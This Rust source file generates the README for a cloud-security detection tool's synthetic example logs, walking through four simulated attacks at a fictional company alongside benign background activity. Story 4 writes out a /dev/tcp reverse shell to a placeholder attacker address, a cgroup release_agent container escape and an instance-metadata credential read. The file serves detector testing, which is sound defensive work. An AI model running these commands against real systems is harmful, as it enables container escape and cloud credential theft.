//! `examples/data/README.md`: what the example day holds, where each log is, the accounts and
//! estates it spans, and the four stories it tells.

use super::azure::{GUEST, OWNER_ROLE, SUBSCRIPTION, TENANT};
use super::escape::SWEPT_REGIONS;
use super::falco::{METADATA_RULE, MOUNT_RULE, REDIRECT_RULE, RELEASE_AGENT_RULE, SHELL_RULE};
use super::gcp::{EXPORTER, PROJECT, PUBLIC_BUCKET, PUBLIC_ROLE};
use super::kubernetes::{CONTRACTOR_ROLE, CONTRACTOR_SESSION, ROGUE_CONTAINER, ROGUE_IMAGE};
use super::layout::{ExampleSummary, Planes};
use super::*;

/// The README for what `summary` and `planes` say was written.
pub fn text(summary: &ExampleSummary, planes: &Planes) -> String {
    let [gcp, azure, kubernetes, falco, flows] = planes.counts();
    format!(
        r#"# Example data: one day at Acme (2026-11-03, UTC)

Synthetic logs of every plane trailhound reads, written by `trailhound generate --example --out
examples/data` (the `trailhound-synth` crate's `example` module; deterministic: run it again and
the files come out byte-identical). Nothing here is real: account, project, subscription and
object ids, keys, addresses (mostly RFC 5737 documentation ranges) and people are invented.
Each record has the shape its provider documents.

## Layout

- `AWSLogs/<account>/CloudTrail/<region>/2026/11/03/*.json.gz`: CloudTrail files as delivered
  to S3, each `{{"Records": [...]}}`, one file per account, region and hour.
- `extra/marketing-{marketing}-2026-11-03.jsonl`: the marketing account's trail as JSON lines
  (one record per line), the other input format.
- `AWSLogs/{prod}/vpcflowlogs/us-east-1/2026/11/03/*.log.gz`: the production VPC's flow log as
  delivered to S3: text in the default format (version 2), its header line first, one file per
  hour.
- `gcp/acme-audit-export/cloudaudit.googleapis.com/<activity|data_access>/2026/11/03/HH:00:00_HH:59:59_S0.json`:
  the analytics project's audit logs as a log sink exports them to Cloud Storage, one
  `LogEntry` per line, one shard per log and hour.
- `azure/insights-activity-logs/resourceId=/SUBSCRIPTIONS/<id>/y=2026/m=11/d=03/h=HH/m=00/PT1H.json`:
  the production subscription's Activity Log as diagnostic settings archive it in a storage
  account, one `{{"records": [...]}}` blob per hour.
- `kubernetes/{cluster}/audit-2026-11-03.jsonl`: the production cluster's audit events
  (`audit.k8s.io/v1`), one per line.
- `falco/{cluster}/events-2026-11-03.jsonl`: Falco's alerts from the cluster's nodes
  (`json_output`), one per line.

| log | records | files |
|-----|---------|-------|
| AWS CloudTrail | {ct_records} | {ct_files} `.json.gz` plus the JSON-lines file |
| AWS VPC flow logs | {flows} | one per hour with traffic |
| GCP Cloud Audit Logs | {gcp} | one per log and hour |
| Azure Activity Log | {azure} | one per hour |
| Kubernetes audit (EKS) | {kubernetes} | one |
| Falco | {falco} | one |

{all} records in all, in {all_files} files, 00:00–24:00 UTC.

## Accounts

| account        | what it is |
|----------------|------------|
| `{dev}` | Acme dev / shared tools (workstations, bastion, CI) |
| `{prod}` | Acme production |
| `{marketing}` | Acme marketing (website assets) |
| `{foreign}` | not Acme: receives the shared snapshots |
| `{ext}` | other corporate accounts, not Acme's: the failed assumes |
| `{datadog}` | monitoring vendor, trusted with an external id |

Beyond AWS:

| estate | what it is |
|--------|------------|
| GCP project `{project}` | Acme analytics (ETL workers, curated data, exports) |
| Azure subscription `{subscription}` | Acme production on Azure (the customer portal, ops automation), tenant `{tenant}` |
| EKS cluster `{cluster}` | Acme production's cluster, in account `{prod}`: nodes `{node}` (instance `{node_instance}`, `{node_ip}`, `{node_eni}`) and `{orders_node}` (instance `{orders_instance}`, `{orders_ip}`, `{orders_eni}`, the orders service), both with the instance role `{node_role}` |

## Story 1: the insider (dev → prod, 09:12–10:25)

1. 09:12 IAM user **`{insider}`** opens an SSM session (`ssm:StartSession`) on the analytics
   workstation **`{ws}`**.
2. 09:14–09:24 from the workstation's instance role (`{ws_role}`, session name = the instance
   id) reconnaissance: `GetCallerIdentity`, `ListUsers`, `ListRoles`, `ListGroups`, `ListBuckets`,
   `DescribeInstances`/`DescribeSecurityGroups`/`DescribeSnapshots` in us-east-1, us-east-2,
   us-west-1 and us-west-2, `GetAccountAuthorizationDetails`, a denied `ListRolePolicies`.
3. 09:31 `ec2-instance-connect:SendSSHPublicKey` to the bastion **`{bastion}`**, from the
   workstation's role.
4. 09:34–09:38 from the bastion's role (`{bastion_role}`): `ListRolePolicies`,
   `ListAttachedRolePolicies`, `GetRolePolicy`, `GetRole` on `{dev_role}`, `ListPolicyVersions`.
5. 09:44 `sts:AssumeRole` of **`{dev_role}`** — no `serialNumber` (MFA), no `externalId` —
   session `{dev_session}`. Every later hop's events are signed with the `ASIA…` key this call
   returned (`userIdentity.accessKeyId` = the previous `responseElements.credentials.accessKeyId`).
6. 09:51 `iam:SetDefaultPolicyVersion` rolls `{policy}` back to its permissive `v1`.
7. 09:55 `iam:CreateAccessKey` for the service user `{key_user}`.
8. 10:05 `ec2:ModifySnapshotAttribute` shares `{snapshot}` with `{foreign}` (createVolumePermission add).
9. 10:11 `sts:AssumeRole` of **`{prod_role}`** in production `{prod}` (cross-account, no MFA),
   session `{prod_session}`; `GetCallerIdentity`, `ListRoles`, a denied `DescribeOrganization`.
10. 10:16–10:18 three `sts:AssumeRole` calls into `{ext}` fail with `AccessDenied`.
11. 10:24 the SSM session is terminated.

Expected: `storyline` reports `{insider}` as one story (one finding uid, a revision per batch that adds to it) with the whole trail; `iam-risk`
reports steps 5, 6, 7, 8, 9 and 10 on their own.

## Story 2: a public bucket loses its encryption (marketing, 12:58–15:41)

IAM user **`{exposer}`** signs in to the console without MFA, creates **`{bucket}`** with
`x-amz-acl: public-read` (object ownership `ObjectWriter`), sets KMS encryption, deletes the
bucket's public access block, grants `AllUsers` `READ` with `PutBucketAcl`, and at 15:40 deletes
the bucket's encryption configuration (`DeleteBucketEncryption`).

Expected: `s3-exposure` reports the bucket made public (medium) and then one high finding,
"public bucket lost its encryption", carrying both the exposure and the encryption event ids.

## Story 3: one identity across GCP, Azure, the cluster and its node (18:41–19:27)

The contractor **`{contractor}`** — the same identity in Google Workspace and in Entra ID, and
session `{contractor_session}` of `{contractor_role}` in the cluster — is used from
**`{intruder}`**, an address Acme never uses:

1. 18:41 GCP: `GenerateAccessToken` (`iamcredentials.googleapis.com`) for the service account
   **`{exporter}`**; then, as that account (`authenticationInfo.serviceAccountDelegationInfo`
   names the contractor), `storage.getIamPermissions` and at 18:43 `storage.setIamPermissions`
   on **`{gcp_bucket}`**: `serviceData.policyDelta.bindingDeltas` adds **`allUsers`** to
   `{public_role}`. At 18:44 a second token, and the policy read back.
2. 19:05 Azure: `Microsoft.Authorization/roleAssignments/write` (started, then succeeded) makes
   **`{guest}`**, a guest from another tenant, **Owner** (`{owner}`) of the subscription. The
   contractor signed in with a password only (`amr` `pwd`), through the Azure CLI.
3. 19:19–19:22 Kubernetes: `list pods` in `{system}`, `list nodes`, then `create pods`
   **`{pod}`** in **`{system}`**: `{image}`, `securityContext.privileged: true`,
   `hostNetwork`, `hostPID`, and a `hostPath` volume of **`/`** mounted at `/host`, pinned to
   node **`{node}`**. Its kubelet starts it; at 19:22 `create pods/exec` opens `sh` with a
   terminal.
4. 19:22 Falco on `{node}`: **`{shell_rule}`** (priority Notice): `sh` (`/bin/busybox`, parent
   `runc`) as root in container `{container}` of pod `{pod}`, namespace `{system}`.
5. 19:22–19:27 VPC flow logs: the node's interface `{node_eni}` (`{node_ip}`, which the pod's host
   network shares) connects to **`{intruder}:{port}`**, accepted, in five one-minute windows,
   with the replies.

Expected: `iam-risk` reports steps 1 and 2 on their own: `allUsers` granted on `{gcp_bucket}`
(high) and the guest made Owner of the subscription (critical). The other bundled detectors read
CloudTrail only; the story's events show in the summary's `events by provider` and
`events by source`, for detectors of those planes.

## Story 4: a vulnerable container escapes to its node (production, 20:05–20:40)

The orders API's container on `{orders_node}` (pod `{orders_pod}`, namespace `orders`) runs
privileged and its web app has a command injection. The attacker's machine is **`{attacker}`**.
Acme's Falco loads the incubating rules besides the stable ones.

1. Falco on `{orders_node}`, in container `orders-api` of pod `{orders_pod}`:
   - 20:05 **`{redirect_rule}`** (Notice, `T1059`): `bash -c bash -i >& /dev/tcp/{attacker}/{port} 0>&1`
     (parent `sh`, grandparent `node`) puts its standard streams on a connection to
     `{attacker}:{port}`;
   - 20:09 **`{mount_rule}`** (Warning, `T1611`): `mount -t cgroup -o rdma cgroup /tmp/cgrp`;
   - 20:09 **`{release_agent_rule}`** (Critical, `T1611`): the shell writes
     `/tmp/cgrp/release_agent`, with every capability: a command on the node itself;
   - 20:11 **`{metadata_rule}`** (Notice, `T1552.005`), twice: an IMDSv2 token, then
     `latest/meta-data/iam/security-credentials/{node_role}`, the node role's credentials.

   VPC flow logs: the node's interface `{orders_eni}` (`{orders_ip}`) connects to
   **`{attacker}:{port}`**, accepted, in seven one-minute windows from 20:05, with the replies.
2. 20:14–20:20 the node role's session **`arn:aws:sts::{prod}:assumed-role/{node_role}/{orders_instance}`**, signed with its current `ASIA…` key
   (the one the node's own calls use from 15:14 to 21:14), from `{attacker}` with another AWS
   CLI (`md/distrib#debian.12`) than the node's agents: `GetCallerIdentity`, a denied
   `ListBuckets`, then `DescribeInstances` and denied `DescribeDBInstances` and
   `DescribeDBSnapshots` in {regions} regions ({region_list}) within six minutes.
3. 20:22 `sts:AssumeRole` of **`{dba_role}`** (`arn:aws:iam::{prod}:role/{dba_role}`) — no
   `serialNumber` (MFA), no `externalId` — with the node role's key, session `{dba_session}`
   (the name the orders service's schema migrations used when they ran from the nodes, before
   IRSA; the role still trusts the node role). Every later call is signed with the `ASIA…` key
   this call returned.
4. 20:23–20:39 with it, from `{attacker}`: `GetCallerIdentity`, `DescribeDBInstances`,
   `DescribeDBSnapshots`, then `rds:CreateDBSnapshot` **`{exported}`** of `{orders_db}`,
   polled twice, and at 20:38 `rds:ModifyDBSnapshotAttribute` (`attributeName` `restore`,
   `valuesToAdd` **`{foreign}`**), read back with `DescribeDBSnapshotAttributes`.

Before it, all day: the node role's own calls (session `{orders_instance}`, keys EC2 renews
every six hours) come from the node's private address `{orders_ip}` through the VPC's interface
endpoints (`vpcEndpointId`): the VPC CNI agent's hourly `ec2:DescribeNetworkInterfaces`
(`amazon-vpc-cni-k8s`) and the kubelet's image credential provider's `ecr:GetAuthorizationToken`
every six hours (`aws-sdk-go`). They tie the node's host name to its instance.

Expected: a storyline from the node's instance (`instance:{orders_instance}`), with hops from
the host and container (the Falco alerts) to the instance role session and then to the
`{dba_role}` session, and one composite alert tying the Falco alerts, the multi-region
discovery, the privileged assume and the snapshot share together. On their own, `iam-risk`
reports steps 3 (privileged role assumed without MFA) and 4 (snapshot shared with a foreign
account); the rules report the instance credentials used from outside (each call of step 2 and
the assume), the denied calls, and the RDS snapshot shared.

## Background (benign)

### CloudTrail

Over 20 other principals through the day, chosen so that detectors must discriminate:
console users with MFA (alice.nguyen, carol.smith, grace.park — one failed login first,
priya.raman in production, nora.quinn in marketing); bob.okafor rotating his own access key;
carol.smith creating a policy version that is *not* made default; dan.kowalski's denied
`ListUsers` and `GetBucketPolicy`; erin.walsh's Athena/Glue work; frank.li assuming
`{dev_role}` **with MFA** and updating a CloudFormation stack; henry.adams opening an SSM
session on a build box; ivy.chen using EC2 Instance Connect on the same bastion; the
`{key_user}` Terraform user's reads; GitHub Actions (OIDC) deploying to ECR/ECS; Lambda and ECS
task roles assumed by their services; AWS Backup and RDS snapshots; AWS Config describing
every few hours in three regions; a monitoring vendor assuming its role with an external id
and polling three regions; a Prowler audit assuming `OrganizationAuditRole` in production
with an external id; CodePipeline deploying to production; a marketing logs bucket created
private, encrypted, with a LogDelivery grant; CloudFront invalidations; the orders node's
instance role through the VPC endpoints (story 4).

### GCP

An asset inventory account lists the instances of two zones and reads three buckets every
two hours; a.mendes reads objects of `acme-analytics-curated` and grants
`group:data-eng@acme.example` `{public_role}` on it (a known group, not the public); l.tanaka
describes instances; CI (`ci-builder@acme-platform-ci.iam.gserviceaccount.com`) impersonates
`deployer@{project}.iam.gserviceaccount.com`, as it is meant to, to upload build artifacts.

### Azure

The managed identity `acme-ops-automation` lists the keys of storage account
`acmeopsbackups` every four hours, starts the dev build machines at 07:00 and deallocates them at
19:00; CI's service principal validates and deploys the portal's template twice; j.alvarez,
signed in with MFA, grants Reader on resource group `ops` to the automation identity (a role
assignment that is not the story's) and resizes a build machine.

### Kubernetes

The replica set and deployment controllers keep `orders-api` current, CoreDNS watches
endpoint slices, both kubelets report their node's status and the VPC CNI agent reads its node;
l.tanaka's `kubectl` reads in `orders`; CI rolls out `orders-api` three times.

### Falco

`Contact K8S API Server From Container` (Notice), three times, for the orders worker's
leader election.

### VPC flow logs

Both nodes' HTTPS to service endpoints and DNS to the VPC resolver every hour, the
orders node's PostgreSQL connections to `10.40.21.14:5432`, and scanners from `203.0.113.0/24`
probing SSH, Telnet and RDP, rejected.
"#,
        ct_records = summary.records,
        ct_files = summary.files,
        all = summary.records + summary.other_records,
        all_files = summary.files + 1 + summary.other_files,
        project = PROJECT,
        subscription = SUBSCRIPTION,
        tenant = TENANT,
        cluster = CLUSTER,
        node = NODE.name,
        node_ip = NODE.ip,
        node_eni = NODE.eni,
        orders_node = ORDERS_NODE.name,
        orders_ip = ORDERS_NODE.ip,
        orders_eni = ORDERS_NODE.eni,
        node_instance = NODE.instance,
        orders_instance = ORDERS_NODE.instance,
        node_role = NODE_ROLE,
        orders_pod = ORDERS_POD,
        attacker = ATTACKER_IP,
        redirect_rule = REDIRECT_RULE,
        mount_rule = MOUNT_RULE,
        release_agent_rule = RELEASE_AGENT_RULE,
        metadata_rule = METADATA_RULE,
        regions = SWEPT_REGIONS.len(),
        region_list = SWEPT_REGIONS.join(", "),
        dba_role = DBA_ROLE,
        dba_session = DBA_SESSION,
        exported = EXPORTED_SNAPSHOT,
        orders_db = ORDERS_DB,
        contractor = CONTRACTOR,
        contractor_session = CONTRACTOR_SESSION,
        contractor_role = CONTRACTOR_ROLE,
        intruder = INTRUDER_IP,
        port = LISTENER_PORT,
        exporter = EXPORTER,
        gcp_bucket = PUBLIC_BUCKET,
        public_role = PUBLIC_ROLE,
        guest = GUEST,
        owner = OWNER_ROLE,
        system = SYSTEM_NAMESPACE,
        pod = ROGUE_POD,
        image = ROGUE_IMAGE,
        container = ROGUE_CONTAINER,
        shell_rule = SHELL_RULE,
        ext = EXTERNAL_CORPORATE.join("`, `"),
        dev = DEV,
        prod = PROD,
        marketing = MARKETING,
        foreign = FOREIGN_SNAPSHOT_TARGET,
        datadog = VENDOR,
        insider = INSIDER,
        ws = WORKSTATION,
        ws_role = WORKSTATION_ROLE,
        bastion = BASTION,
        bastion_role = BASTION_ROLE,
        dev_role = DEV_ROLE,
        dev_session = DEV_SESSION,
        policy = ESCALATED_POLICY,
        key_user = KEY_TARGET_USER,
        snapshot = SHARED_SNAPSHOT,
        prod_role = PROD_ROLE,
        prod_session = PROD_SESSION,
        exposer = EXPOSER,
        bucket = EXPOSED_BUCKET,
    )
}
